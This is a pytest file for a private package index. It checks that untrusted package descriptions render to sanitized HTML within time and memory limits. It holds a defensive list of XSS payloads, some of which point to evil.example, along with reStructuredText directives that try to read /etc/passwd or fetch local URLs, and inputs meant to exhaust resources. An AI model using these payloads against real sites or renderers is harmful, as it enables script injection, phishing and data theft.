"""Descriptions as HTML: what is kept of a stranger's text, and what rendering it may cost."""

from __future__ import annotations

import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest
from private_pypi.web import description
from private_pypi.web.description import LIMIT, Descriptions, Renderer, key
from private_pypi.web.details import Details

MARKDOWN, RST, PLAIN = "text/markdown", "text/x-rst", "text/plain"


def details(text: str, content_type: str = MARKDOWN) -> Details:
    """Return details with nothing but a description."""
    return Details(description=text, content_type=content_type)


class Elements(HTMLParser):
    """The elements of a text of HTML: tags and their attributes, in order."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def of(self, tag: str) -> list[dict[str, str | None]]:
        """Return the attributes of each element of a tag."""
        return [attributes for name, attributes in self.found if name == tag]


# Which markup -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content_type", "text", "shown"),
    [
        (MARKDOWN, "# Title\n\n*em*", "<em>em</em>"),
        ("Text/Markdown; charset=UTF-8", "*em*", "<em>em</em>"),
        ("text/markdown; variant=GFM", "~~no~~\n\n|a|\n|-|\n|b|", "<td>b</td>"),
        ("text/markdown; variant=CommonMark", "**strong**", "<strong>strong</strong>"),
        ("text/markdown; variant=none-that-there-is", "*em*", "<em>em</em>"),
        ("text/markdown; variant*=utf-8''GFM", "*em*", "<em>em</em>"),
        (RST, "Title\n=====\n\n*em*", "<em>em</em>"),
        ("text/x-rst; charset=UTF-8", "*em*", "<em>em</em>"),
        ("", "*em*", "<em>em</em>"),
    ],
)
def test_markup_becomes_html(renderer: Renderer, content_type: str, text: str, shown: str) -> None:
    assert shown in renderer.html(details(text, content_type))


@pytest.mark.parametrize(
    ("content_type", "text"),
    [
        (PLAIN, "*a*"),
        ("text/html", "<b>a</b>"),
        ("application/x-unknown", "*a*"),
        ("nonsense", "*a*"),
        (";;=", "*a*"),
        # Markup that is wrong.
        (RST, "Title\n==\n\n`a"),
        ("", ".. unknown-directive::\n\n   x"),
        (MARKDOWN, ""),
    ],
)
def test_all_else_is_shown_as_text(renderer: Renderer, content_type: str, text: str) -> None:
    assert renderer.html(details(text, content_type)) == ""


def test_code_is_highlighted(renderer: Renderer) -> None:
    html = renderer.html(details("```python\ndef f(): pass\n```"))

    assert '<span class="k">def</span>' in html


# What a stranger must not do ----------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<style>* { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<video src=https://evil.example/x autoplay></video>",
    "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
    "<img src=x onerror=alert(1)>",
    '<img srcset="https://evil.example/x 2x" src=//evil.example/y loading=lazy>',
    "<p onclick=alert(1) onmouseover=alert(1)>p</p>",
    '<p style="background: url(https://evil.example/x)">p</p>',
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>t</table>",
    "<svg onload=alert(1)><script>alert(1)</script><use href=https://evil.example/x></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=' &#1; JaVaScRiPt:alert(1)'>a</a>",
    "<a href='java&#10;script:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href=vbscript:x>a</a>",
    "<a href=file:///etc/passwd>a</a>",
    "<a href=https://evil.example/ target=_top ping=https://evil.example/>a</a>",
    "[a](javascript:alert(1)) ![b](javascript:alert(1)) ![c](data:image/svg+xml,x)",
    "[a]: javascript:alert(1)\n\n[a] <javascript:alert(1)>",
    "<details ontoggle=alert(1) open><summary>s</summary></details>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<dialog open>d</dialog><slot></slot><portal src=https://evil.example/></portal>",
    "</div></main></body></html><h1 id=main class=notice>h</h1>",
    "`a`{=html} <b tabindex=1 accesskey=x contenteditable autofocus>b</b>",
]
HARMLESS = {"align", "alt", "class", "colspan", "href", "id", "rel", "rowspan", "start", "title"}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("content_type", [MARKDOWN, "text/markdown; variant=CommonMark"])
def test_nothing_runs_loads_or_leads_a_form_away(
    renderer: Renderer, text: str, content_type: str
) -> None:
    html = renderer.html(details(f"Before\n\n{text}\n\nAfter", content_type))

    assert "Before" in html
    check_harmless(html)


def check_harmless(html: str) -> None:
    """Check that HTML has only elements and attributes of a text, and leads nowhere but there."""
    found = Elements(html).found
    assert {tag for tag, _ in found} <= set(description._TAGS.split())
    for tag, attributes in found:
        assert attributes.keys() <= HARMLESS
        assert re.match("https://evil.example/$", attributes.get("href") or "https://evil.example/")
        assert tag == "span" or "class" not in attributes
        assert (attributes.get("id") or "text-").startswith("text-")


@pytest.mark.parametrize(
    "text",
    [
        "`a <javascript:alert(1)>`_",
        ".. _a: javascript:alert(1)\n\na_",
        ".. image:: https://evil.example/x.png\n   :target: javascript:alert(1)",
        ".. figure:: https://evil.example/x.png\n\n   caption",
        ".. class:: notice\n\np",
        ".. contents::\n\nMain\n====\n\np",
    ],
)
def test_nothing_of_restructuredtext_does_either(renderer: Renderer, text: str) -> None:
    html = renderer.html(details(f"Before\n\n{text}\n\nAfter", RST))

    assert "Before" in html
    assert not re.search("javascript:| src=|notice", html)


@pytest.mark.parametrize(
    "text",
    [
        ".. raw:: html\n\n   <script>alert(1)</script>",
        ".. include:: /etc/passwd",
        ".. csv-table::\n   :file: /etc/passwd",
        ".. csv-table::\n   :url: http://127.0.0.1:1/",
        ".. literalinclude:: /etc/passwd",
    ],
)
def test_restructuredtext_that_would_read_a_file_or_put_html_in_is_shown_as_text(
    renderer: Renderer, text: str
) -> None:
    html = renderer.html(details(f"Before\n\n{text}\n\nAfter", RST))

    assert not re.search("root:|script", html)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_last_step_suffices_whatever_the_renderers_let_through(text: str) -> None:
    check_harmless(description.clean(text))


# What is left of links, images and ids ------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "content_type"),
    [
        ("![a diagram](https://evil.example/x.png)", MARKDOWN),
        ("<img src=https://evil.example/x.png alt='a diagram'>", MARKDOWN),
        (".. image:: https://evil.example/x.png\n   :alt: a diagram", RST),
    ],
)
def test_an_image_is_its_text(renderer: Renderer, text: str, content_type: str) -> None:
    html = renderer.html(details(text, content_type))

    assert "a diagram" in html
    assert Elements(html).of("img") == []
    assert "evil.example" not in html


def test_the_text_of_an_image_stays_text(renderer: Renderer) -> None:
    text = "<img src=x alt='<b onclick=1>bold</b> &lt;i&gt;'> <b title='<img><a></a>'>b</b>"

    html = renderer.html(details(text))

    assert Elements(html).of("i") == []
    assert all("onclick" not in attributes for attributes in Elements(html).of("b"))


@pytest.mark.parametrize(
    "url", ["https://there.example/a?b=c", "http://there.example/", "mailto:a@there.example"]
)
@pytest.mark.parametrize(
    ("form", "content_type"), [("[a]({})", MARKDOWN), ("<{}>", MARKDOWN), ("`a <{}>`_", RST)]
)
def test_a_link_leads_to_the_web_or_to_a_mailbox_and_tells_nothing(
    renderer: Renderer, url: str, form: str, content_type: str
) -> None:
    (link,) = Elements(renderer.html(details(form.format(url), content_type))).of("a")

    # reStructuredText spells the at of a mailbox out.
    assert unquote(link.pop("href") or "") == url
    assert link == {"rel": "nofollow noopener noreferrer"}


@pytest.mark.parametrize(
    "url", ["docs/x.md", "/simple/", "../../", "?a=b", "//there.example/", ".", "\\\\there.example"]
)
def test_a_link_that_leads_elsewhere_on_this_server_is_none(renderer: Renderer, url: str) -> None:
    html = renderer.html(details(f"[words](<{url}>)\n\n<a href='{url}'>more</a>"))

    assert "words" in html
    assert "href" not in html


@pytest.mark.parametrize(
    ("text", "content_type"),
    [
        ("[go](#here)\n\n<h2 id=here>There</h2>", MARKDOWN),
        ("[go](#the-title)\n\n# The title", MARKDOWN),
        ("Text[^1]\n\n[^1]: Note", MARKDOWN),
        (".. contents::\n\nFirst\n=====\n\na\n\nSecond\n======\n\nb", RST),
        ("Go here_.\n\n.. _here:\n\nThere is it.\n\nText [1]_\n\n.. [1] Note", RST),
    ],
)
def test_a_link_within_a_description_leads_to_its_place(
    renderer: Renderer, text: str, content_type: str
) -> None:
    found = Elements(renderer.html(details(text, content_type)))

    places = [attributes["id"] for _, attributes in found.found if attributes.get("id")]
    led = [(link.get("href") or "").removeprefix("#") for link in found.of("a")]
    assert led
    assert set(led) <= {*places, "top"}
    assert all((place or "").startswith("text-") for place in places)


def test_no_part_of_a_description_is_a_landmark_of_the_page(renderer: Renderer) -> None:
    html = renderer.html(details(".. contents::\n\nFirst\n=====\n\nText [1]_\n\n.. [1] Note", RST))

    assert "Note" in html
    assert not {tag for tag, _ in Elements(html).found} & {"aside", "main", "nav", "section"}


def test_an_id_is_never_one_of_the_page_around_it(renderer: Renderer) -> None:
    html = renderer.html(details("<h2 id=main>a</h2><p id=history>b</p>\n\n# Releases"))

    ids = [attributes.get("id") or "" for _, attributes in Elements(html).found]
    assert {"text-main", "text-history"} <= set(ids)
    assert all(one.startswith("text-") for one in ids if one)


def test_a_class_of_the_page_around_it_is_dropped(renderer: Renderer) -> None:
    html = renderer.html(details('<span class="mark k">a</span><p class="notice">b</p>'))

    assert 'class="k"' in html
    assert not re.search("mark|notice", html)


def test_a_heading_has_no_link_without_a_name(renderer: Renderer) -> None:
    html = renderer.html(details("# Title\n\n## Another"))

    # The page has headings of the first two levels itself.
    assert "<h3" in html
    assert "<h4" in html
    assert "<a" not in html


# What it may cost ---------------------------------------------------------------------------------


def test_a_text_that_takes_too_long_is_shown_as_text_and_the_next_one_is_rendered() -> None:
    # Each is twice the next one.
    doubled = "\n".join(f".. |a{n}| replace:: |a{n + 1}| |a{n + 1}|" for n in range(40))
    with Renderer() as renderer:
        assert renderer.html(details(f"{doubled}\n.. |a40| replace:: a\n\n|a0|", RST)) == ""

        assert "<em>next</em>" in renderer.html(details("*next*"))


def test_the_limit_counts_for_each_text_alone(renderer: Renderer) -> None:
    # Together they take longer than one may.
    for number in range(5):
        assert str(number) in renderer.html(details(f"{number}\n\n" + "*a* ``b``\n\n" * 2500, RST))


# Of the first one, the renderer makes more objects than its memory holds, within a second.
_MEASURED = """
import resource
from private_pypi.web.description import Renderer
from private_pypi.web.details import Details
with Renderer() as renderer:
    for text in ("*a* " * 1_000_000, "*next*"):
        print(repr(renderer.html(Details(description=text, content_type="text/markdown"))))
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
"""


def test_a_text_that_takes_too_much_memory_is_shown_as_text_and_the_next_one_is_rendered() -> None:
    run = subprocess.run(
        [sys.executable, "-c", _MEASURED], check=True, capture_output=True, text=True, timeout=120
    )

    shown, following, kilobytes = run.stdout.split()
    assert shown == "''"
    assert "<em>next</em>" in following
    assert int(kilobytes) < 450_000


def test_html_beyond_the_limit_is_shown_as_text(renderer: Renderer) -> None:
    line = "x" * 4000 + "\n\n"
    most = LIMIT // (4000 + len("<p></p>\n"))

    assert len(renderer.html(details(line * most))) in range(LIMIT - 5000, LIMIT + 1)
    assert renderer.html(details(line * (most + 1))) == ""


@pytest.mark.parametrize(
    "text",
    [
        "> " * 5000,
        "[" * 20_000,
        "* " * 5000 + "a",
        "<b>" * 5000,
        "`" * 20_000,
        "\x85\u2028\u2029 *a*",
    ],
)
@pytest.mark.parametrize("content_type", [MARKDOWN, RST])
def test_no_text_ends_the_rendering_of_others(
    renderer: Renderer, text: str, content_type: str
) -> None:
    renderer.html(details(text, content_type))

    assert "<em>next</em>" in renderer.html(details("*next*"))


def test_a_process_that_was_killed_is_replaced() -> None:
    with Renderer() as renderer:
        renderer.html(details("*a*"))
        process = renderer._process
        assert process
        process.kill()
        process.wait()
        renderer.html(details("*b*"))

        assert "<em>c</em>" in renderer.html(details("*c*"))


def test_no_process_is_left() -> None:
    with Renderer() as renderer:
        renderer.html(details("*a*"))
        process = renderer._process

    assert process
    assert process.poll() is not None


def test_for_no_description_no_process_is_started() -> None:
    with Renderer() as renderer:
        assert renderer.html(details("")) == ""

        assert renderer._process is None


# What is kept -------------------------------------------------------------------------------------


class Counted(Renderer):
    """A renderer that knows how often it was asked."""

    def __init__(self, renderer: Renderer) -> None:
        super().__init__()
        self.asked = 0
        self._renderer = renderer

    def html(self, details: Details) -> str:
        self.asked += 1
        return self._renderer.html(details)


@pytest.fixture
def counted(renderer: Renderer) -> Counted:
    """A renderer that was not asked yet."""
    return Counted(renderer)


@pytest.mark.parametrize("text", ["*Größe* 日本 \U0001f40d", "<b>a&#13;b</b>", "Title\n==\n\n`a"])
@pytest.mark.parametrize("content_type", [MARKDOWN, RST])
def test_a_description_is_rendered_once_even_if_it_has_to_be_shown_as_text(
    counted: Counted, tmp_path: Path, text: str, content_type: str
) -> None:
    first = Descriptions(tmp_path, counted).html(details(text, content_type))
    second = Descriptions(tmp_path, counted).html(details(text, content_type))

    assert first == second
    assert counted.asked == 1


def test_another_text_or_type_is_rendered_by_itself(counted: Counted, tmp_path: Path) -> None:
    descriptions = Descriptions(tmp_path / "new", counted)

    for one in (details("`a`"), details("`b`"), details("`a`", RST), details("`a`", PLAIN)):
        assert descriptions.html(one) == counted.html(one)

    assert len({path.name for path in (tmp_path / "new").iterdir()}) == 4


def test_all_else_of_a_release_makes_no_difference() -> None:
    one = Details(name="a", summary="b", description="c", content_type=MARKDOWN)
    assert key(one) == key(details("c"))


@pytest.mark.parametrize("damaged", [b"", b"\xff\xfe", b"\0" * 4096, b"<script>alert(1)</script>"])
def test_what_is_kept_is_not_believed_if_it_was_damaged(
    counted: Counted, tmp_path: Path, damaged: bytes
) -> None:
    descriptions = Descriptions(tmp_path, counted)
    html = descriptions.html(details("*a*"))
    (kept,) = tmp_path.iterdir()
    whole = kept.read_bytes()

    kept.write_bytes(damaged or whole[: len(whole) // 2])

    assert descriptions.html(details("*a*")) == html
    assert counted.asked == 2
    assert kept.read_bytes() == whole


def test_for_no_description_nothing_is_kept(counted: Counted, tmp_path: Path) -> None:
    assert Descriptions(tmp_path, counted).html(details("")) == ""
    assert list(tmp_path.iterdir()) == []
